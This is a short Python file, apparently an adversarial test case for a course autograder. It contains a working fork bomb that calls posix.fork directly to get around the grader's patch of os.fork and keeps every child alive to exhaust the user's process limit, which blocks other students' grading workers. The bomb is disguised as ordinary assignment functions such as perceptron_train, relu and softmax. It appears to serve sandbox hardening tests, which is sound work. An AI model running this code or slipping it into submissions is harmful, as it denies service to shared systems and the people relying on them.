"""Adversarial: a fork bomb through the raw `posix.fork` (the worker patches only `os.fork`):
forks until the system says no and keeps every child alive, so that no process of its user
can start any more (in `grade-all`: the classmates' workers, running as the same user).
`HINTS["hold"]`: seconds the children live; `HINTS["max"]`: a safety stop for tests."""

import sys
import time

import numpy as np

HINTS: dict = {}


def attack() -> dict:
    posix = sys.modules.get("posix") or __import__("posix")
    forked, error = 0, None
    for _ in range(int(HINTS.get("max", 100_000))):
        try:
            pid = posix.fork()
        except OSError as err:
            error = err.strerror
            break
        if pid == 0:
            time.sleep(float(HINTS.get("hold", 30)))
            posix._exit(0)
        forked += 1
    return {"forked": forked, "error": error}


def _exercise(x, *args, **kwargs):
    attack()
    return np.zeros_like(x)


step = perceptron_predict = perceptron_train = dense_forward = sigmoid = tanh = relu = _exercise
leaky_relu = prelu = elu = gelu = softmax = log_softmax = mlp_forward = _exercise
